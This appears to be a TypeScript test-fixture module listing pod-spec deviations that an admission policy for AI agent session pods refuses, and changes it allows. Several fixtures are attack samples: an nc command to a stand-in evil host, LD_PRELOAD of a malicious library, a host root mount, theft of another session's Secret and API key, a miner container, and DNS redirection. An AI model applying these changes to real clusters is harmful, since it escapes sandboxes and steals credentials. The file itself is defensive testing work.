import type { Container, Pod, PodSpec } from 'kubernetes-types/core/v1';

/** A pod with all that a session's pod has, for changes of any kind. */
interface WholePod extends Pod {
  readonly metadata: { name: string; namespace: string } & NonNullable<Pod['metadata']> & {
      labels: Record<string, string>;
      annotations: Record<string, string>;
    };
  readonly spec: PodSpec & { containers: [Container, ...Container[]]; volumes: NonNullable<PodSpec['volumes']> };
}

type Change = (pod: WholePod) => void;

/** A change of a session's pod, and the field that the refusal names, or several of which it names one; none if the pod is as good as before. */
export interface Deviation {
  readonly field: string | readonly string[] | undefined;
  readonly change: Change;
}

const bad = (field: string | readonly string[], change: Change): Deviation => ({ field, change });
const good = (change: Change): Deviation => ({ field: undefined, change });

/** Changes a field of the spec. */
const spec = (fields: Partial<PodSpec>): Deviation =>
  bad(`spec.${Object.keys(fields)[0]}`, (pod) => Object.assign(pod.spec, fields));

/** Changes a field of the agent's container. */
const agent = (fields: Partial<Container>): Deviation =>
  bad(`spec.containers[agent].${Object.keys(fields)[0]}`, (pod) => Object.assign(pod.spec.containers[0], fields));

const podSecurity = (fields: NonNullable<PodSpec['securityContext']>): Deviation =>
  bad(`spec.securityContext.${Object.keys(fields)[0]}`, (pod) => {
    pod.spec.securityContext = { ...pod.spec.securityContext, ...fields };
  });

const agentSecurity = (fields: NonNullable<Container['securityContext']>): Deviation =>
  bad(`spec.containers[agent].securityContext.${Object.keys(fields)[0]}`, (pod) => {
    const [container] = pod.spec.containers;
    container.securityContext = { ...container.securityContext, ...fields };
  });

const amount = (kind: 'limits' | 'requests', resource: string, value: string): Deviation =>
  bad(`spec.containers[agent].resources.${kind}.${resource}`, ({ spec: { containers } }) => {
    const [{ resources = {} }] = containers;
    resources[kind] = { ...resources[kind], [resource]: value };
  });

const label = (key: string, value: string, field = `metadata.labels.${key}`): Deviation =>
  bad(field, ({ metadata }) => {
    metadata.labels[key] = value;
  });

const volume = (name: string, source: object): Deviation =>
  bad('spec.volumes', (pod) => {
    pod.spec.volumes.push({ name, ...source });
  });

/** Ways in which a pod of a session may differ from its profile. Each is valid for the API server. */
export const DEVIATIONS: Readonly<Record<string, Deviation>> = {
  'another image': agent({ image: 'evil:1' }),
  'another command': agent({ command: ['sh', '-c', 'nc evil.example.com 1\n'] }),
  'other arguments': agent({ args: ['--evil'] }),
  'a working directory': agent({ workingDir: '/tmp' }),
  'an open stdin': agent({ stdin: true }),
  'a hook': agent({ lifecycle: { preStop: { exec: { command: ['sleep', '600'] } } } }),
  'an image that is never pulled': agent({ imagePullPolicy: 'Never' }),
  'another liveness probe': agent({ livenessProbe: { exec: { command: ['true'] } } }),
  'no liveness probe': bad('spec.containers[agent].livenessProbe', ({ spec }) => {
    delete spec.containers[0].livenessProbe;
  }),
  'a port on the node': bad('spec.containers[agent].ports', ({ spec }) => {
    spec.containers[0].ports = [{ containerPort: 8080, hostPort: 8080 }];
  }),
  'a mount of another path': bad('spec.containers[agent].volumeMounts', ({ spec }) => {
    const [first] = spec.volumes;
    spec.containers[0].volumeMounts = [{ name: first?.name ?? '', mountPath: '/usr/local/bin' }];
  }),
  // The API server refuses a privileged container whose privileges must not escalate.
  privileged: {
    ...agentSecurity({ allowPrivilegeEscalation: true, privileged: true }),
    field: ['allowPrivilegeEscalation', 'privileged'].map((name) => `spec.containers[agent].securityContext.${name}`),
  },
  'privilege escalation': agentSecurity({ allowPrivilegeEscalation: true }),
  'a capability': agentSecurity({ capabilities: { add: ['NET_ADMIN'], drop: ['ALL'] } }),
  'a writable root': agentSecurity({ readOnlyRootFilesystem: false }),
  'root in the container': agentSecurity({ runAsUser: 0 }),
  'root in the pod': podSecurity({ runAsUser: 0 }),
  'root allowed': podSecurity({ runAsNonRoot: false }),
  'no seccomp profile': podSecurity({ seccompProfile: { type: 'Unconfined' } }),
  'no AppArmor profile': bad('spec.securityContext.appArmorProfile', ({ spec }) => {
    Object.assign(spec, { securityContext: { ...spec.securityContext, appArmorProfile: { type: 'Unconfined' } } });
  }),
  'an SELinux type': podSecurity({ seLinuxOptions: { type: 'spc_t' } }),
  'a sysctl': podSecurity({ sysctls: [{ name: 'net.ipv4.ip_unprivileged_port_start', value: '0' }] }),
  'a group': podSecurity({ supplementalGroups: [0] }),
  'the network of the node': spec({ hostNetwork: true }),
  'the processes of the node': spec({ hostPID: true }),
  'the IPC of the node': spec({ hostIPC: true }),
  'shared processes': spec({ shareProcessNamespace: true }),
  'a node': spec({ nodeName: 'node-1' }),
  'a node selector': spec({ nodeSelector: { 'kubernetes.io/hostname': 'node-1' } }),
  'an affinity': spec({ affinity: { podAffinity: {} } }),
  'another scheduler': spec({ schedulerName: 'mine' }),
  'a scheduling gate': spec({ schedulingGates: [{ name: 'example.com/wait' }] }),
  'a toleration of every taint': bad('spec.tolerations', ({ spec }) => {
    spec.tolerations = [{ operator: 'Exists' }];
  }),
  'a toleration of the control plane': bad('spec.tolerations', ({ spec }) => {
    spec.tolerations = [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists', effect: 'NoSchedule' }];
  }),
  'a high priority': spec({ priorityClassName: 'system-node-critical' }),
  'another ServiceAccount': spec({ serviceAccountName: 'default' }),
  'a token of the ServiceAccount': spec({ automountServiceAccountToken: true }),
  'links to Services': spec({ enableServiceLinks: true }),
  'another restart policy': spec({ restartPolicy: 'Always' }),
  'a longer grace': spec({ terminationGracePeriodSeconds: 86_400 }),
  'a longer life': spec({ activeDeadlineSeconds: 86_400 }),
  'no end of life': bad('spec.activeDeadlineSeconds', ({ spec }) => {
    delete spec.activeDeadlineSeconds;
  }),
  'another DNS policy': spec({ dnsPolicy: 'Default' }),
  'another DNS server': bad('spec.dnsConfig', ({ spec }) => {
    spec.dnsConfig = { nameservers: ['203.0.113.53'] };
  }),
  'an alias of a host': spec({ hostAliases: [{ ip: '203.0.113.10', hostnames: ['api.openai.com'] }] }),
  'a host name': spec({ hostname: 'another' }),
  'a readiness gate': spec({ readinessGates: [{ conditionType: 'example.com/never' }] }),
  'a spread': spec({
    topologySpreadConstraints: [{ maxSkew: 1, topologyKey: 'zone', whenUnsatisfiable: 'DoNotSchedule' }],
  }),
  'a second container': bad('spec.containers', ({ spec }) => {
    spec.containers.push({ name: 'miner', image: 'miner:1' });
  }),
  'another init container': bad('spec.initContainers', ({ spec }) => {
    spec.initContainers = [...(spec.initContainers ?? []), { name: 'miner', image: 'miner:1' }];
  }),
  'more memory': amount('limits', 'memory', '900Gi'),
  'more processors': amount('limits', 'cpu', '96'),
  'a smaller request': amount('requests', 'memory', '1Mi'),
  // The API server copies the limit into the requests.
  'another resource': {
    ...amount('limits', 'nvidia.com/gpu', '8'),
    field: ['limits', 'requests'].map((kind) => `spec.containers[agent].resources.${kind}.nvidia.com/gpu`),
  },
  'no memory limit': bad('spec.containers[agent].resources.limits.memory', ({ spec }) => {
    delete spec.containers[0].resources?.limits?.memory;
  }),
  'a variable': bad('spec.containers[agent].env.LD_PRELOAD', ({ spec }) => {
    spec.containers[0].env = [...(spec.containers[0].env ?? []), { name: 'LD_PRELOAD', value: '/tmp/evil.so' }];
  }),
  'a variable from another Secret': bad('spec.containers[agent].env.STOLEN', ({ spec }) => {
    const valueFrom = { secretKeyRef: { name: 'agent-secret-another', key: 'OPENAI_API_KEY' } };
    spec.containers[0].env = [...(spec.containers[0].env ?? []), { name: 'STOLEN', valueFrom }];
  }),
  'a role of a cloud without its token': bad('spec.containers[agent].env.AWS_ROLE_ARN', ({ spec }) => {
    spec.containers[0].env = [
      ...(spec.containers[0].env ?? []),
      { name: 'AWS_ROLE_ARN', value: 'arn:aws:iam::1:role/a' },
    ];
  }),
  'the Secret of another session': bad('spec.containers[agent].envFrom', ({ spec }) => {
    spec.containers[0].envFrom = [{ secretRef: { name: 'agent-secret-another' } }];
  }),
  'a ConfigMap': bad('spec.containers[agent].envFrom', ({ spec }) => {
    const [container] = spec.containers;
    container.envFrom = [...(container.envFrom ?? []), { configMapRef: { name: 'kube-root-ca.crt' } }];
  }),
  'a path of the node': volume('host', { hostPath: { path: '/' } }),
  'a path of the node with the name of a token': volume('kube-api-access-abcde', { hostPath: { path: '/' } }),
  'a token with the name of the automatic one': volume('kube-api-access-abcde', {
    projected: { sources: [{ serviceAccountToken: { path: 'token', expirationSeconds: 3607 } }] },
  }),
  'a token of another audience': volume('aws-iam-token', {
    projected: { sources: [{ serviceAccountToken: { path: 'token', audience: 'vault' } }] },
  }),
  'a token over the files of the image': bad('spec.containers[agent].volumeMounts', ({ spec }) => {
    const sources = [{ serviceAccountToken: { path: 'sh', audience: 'sts.amazonaws.com' } }];
    spec.volumes.push({ name: 'aws-iam-token', projected: { sources } });
    const mount = { name: 'aws-iam-token', mountPath: '/var/run/secrets/../../../bin' };
    spec.containers[0].volumeMounts = [...(spec.containers[0].volumeMounts ?? []), mount];
  }),
  'a Secret as files': volume('stolen', { secret: { secretName: 'agent-secret-another' } }),
  'a claim': volume('claim', { persistentVolumeClaim: { claimName: 'of-somebody' } }),
  'a larger directory': bad('spec.volumes[scratch-tmp].emptyDir.sizeLimit', ({ spec }) => {
    const tmp = spec.volumes.find(({ name }) => name === 'scratch-tmp');
    if (tmp?.emptyDir) tmp.emptyDir.sizeLimit = '900Gi';
  }),
  'a directory in memory': bad('spec.volumes[scratch-tmp].emptyDir.medium', ({ spec }) => {
    const tmp = spec.volumes.find(({ name }) => name === 'scratch-tmp');
    if (tmp?.emptyDir) tmp.emptyDir.medium = 'Memory';
  }),
  'no directory': bad('spec.volumes', ({ spec }) => {
    spec.volumes = spec.volumes.filter(({ name }) => name !== 'scratch-tmp');
    const [container] = spec.containers;
    container.volumeMounts = (container.volumeMounts ?? []).filter(({ name }) => name !== 'scratch-tmp');
  }),
  'an unknown profile': label('app.kubernetes.io/name', 'evil'),
  'another component': label('app.kubernetes.io/component', 'service'),
  'another owner': label('app.kubernetes.io/managed-by', 'somebody'),
  'a label that a Service may select': label('app.example.com/api', 'yes'),
  'the label of a Job': label('batch.kubernetes.io/job-name', 'another'),
  'an instance': label('app.kubernetes.io/instance', 'argo'),
  'another session': label('session', 'another', 'metadata.name'),
  'no session': bad('metadata.labels.session', ({ metadata }) => {
    delete metadata.labels.session;
  }),
  'no label of the library': bad('metadata.labels.app.kubernetes.io/managed-by', ({ metadata }) => {
    delete metadata.labels['app.kubernetes.io/managed-by'];
  }),
  'the name of a longer session': bad('metadata.name', ({ metadata }) => {
    metadata.name = `agent-${metadata.labels.session}-9-0a1b2c`;
  }),
  'another name': bad('metadata.name', ({ metadata }) => {
    metadata.name = 'agent-another';
  }),
  'a second network': bad('metadata.annotations.k8s.v1.cni.cncf.io/networks', ({ metadata }) => {
    metadata.annotations['k8s.v1.cni.cncf.io/networks'] = 'macvlan';
  }),
  'an eviction': bad('metadata.annotations.karpenter.sh/do-not-disrupt', ({ metadata }) => {
    metadata.annotations['karpenter.sh/do-not-disrupt'] = 'false';
  }),
  'no annotation': bad('metadata.annotations.karpenter.sh/do-not-disrupt', ({ metadata }) => {
    delete metadata.annotations['karpenter.sh/do-not-disrupt'];
  }),
  'a finalizer': bad('metadata.finalizers', (pod) => {
    Object.assign(pod.metadata, { finalizers: ['example.com/forever'] });
  }),
};

/** What a session may set, and what admission fills in. */
export const FREEDOMS: Readonly<Record<string, Deviation>> = {
  'nothing else': good(() => undefined),
  'a shorter life': good(({ spec }) => {
    spec.activeDeadlineSeconds = 60;
  }),
  'memory in another spelling': good(({ spec }) => {
    const limits = spec.containers[0].resources?.limits ?? {};
    const [, amount, unit] = /^(\d+)([GM])i$/.exec(limits.memory ?? '') ?? [];
    if (amount !== undefined) limits.memory = String(Number(amount) * 2 ** (unit === 'G' ? 30 : 20));
  }),
  'processors in another spelling': good(({ spec }) => {
    const requests = spec.containers[0].resources?.requests ?? {};
    const [, amount] = /^(\d+)m$/.exec(requests.cpu ?? '') ?? [];
    if (amount !== undefined) requests.cpu = String(Number(amount) / 1000);
  }),
  'a limit of the session that a back end keeps': good(({ metadata }) => {
    metadata.annotations['session.cdk8s-agents/limit-seconds'] = '600';
  }),
  'a pull at each start': good(({ spec }) => {
    spec.containers[0].imagePullPolicy = 'Always';
  }),
  'the pull secret of the ServiceAccount': good(({ spec }) => {
    spec.imagePullSecrets = [{ name: 'registry' }];
  }),
  'the tolerations of every pod': good(({ spec }) => {
    const added = ['not-ready', 'unreachable'].map((what) => ({
      effect: 'NoExecute',
      key: `node.kubernetes.io/${what}`,
      operator: 'Exists',
      tolerationSeconds: 300,
    }));
    spec.tolerations = [...(spec.tolerations ?? []), ...added];
  }),
  'ephemeral storage of a LimitRange': good((pod) => {
    const [{ resources = {} }] = pod.spec.containers;
    resources.limits = { 'ephemeral-storage': '1Gi', ...resources.limits };
    pod.metadata.annotations['kubernetes.io/limit-ranger'] =
      'LimitRanger plugin set: ephemeral-storage limit for container agent';
  }),
  'the name of a pod from Git': good(({ metadata }) => {
    metadata.name = `agent-${metadata.labels.session}-0a1b2c`;
  }),
  'the annotations of Argo CD and kubectl': good(({ metadata }) => {
    metadata.annotations['argocd.argoproj.io/tracking-id'] = 'agents:/Pod:agents/agent-one';
    metadata.annotations['kubectl.kubernetes.io/last-applied-configuration'] = '{}';
  }),
  'the token that a cloud adds': good(({ spec }) => {
    const sources = [
      { serviceAccountToken: { path: 'token', audience: 'sts.amazonaws.com', expirationSeconds: 86_400 } },
    ];
    spec.volumes.push({ name: 'aws-iam-token', projected: { sources } });
    const [container] = spec.containers;
    container.volumeMounts = [
      ...(container.volumeMounts ?? []),
      { name: 'aws-iam-token', mountPath: '/var/run/secrets/eks.amazonaws.com/serviceaccount', readOnly: true },
    ];
    container.env = [...(container.env ?? []), { name: 'AWS_ROLE_ARN', value: 'arn:aws:iam::1:role/a' }];
  }),
};

/** A regular expression of the field that a refusal names. */
export function fieldPattern({ field = [] }: Deviation): string {
  const escaped = [field].flat().map((name) => name.replace(/[.[\]]/g, '\\$&'));
  return `(${escaped.join('|')})`;
}

/** A copy of a session's pod with a change. */
export function deviating(pod: Pod, { change }: Deviation): Pod {
  const copy: unknown = JSON.parse(JSON.stringify(pod));
  if (!isWhole(copy)) throw new Error('not the pod of a session');
  change(copy);
  return copy;
}

function isWhole(pod: unknown): pod is WholePod {
  const { metadata, spec } = Object(pod);
  return [metadata?.labels, metadata?.annotations, spec?.volumes, spec?.containers?.[0]].every(
    (part) => part !== undefined,
  );
}
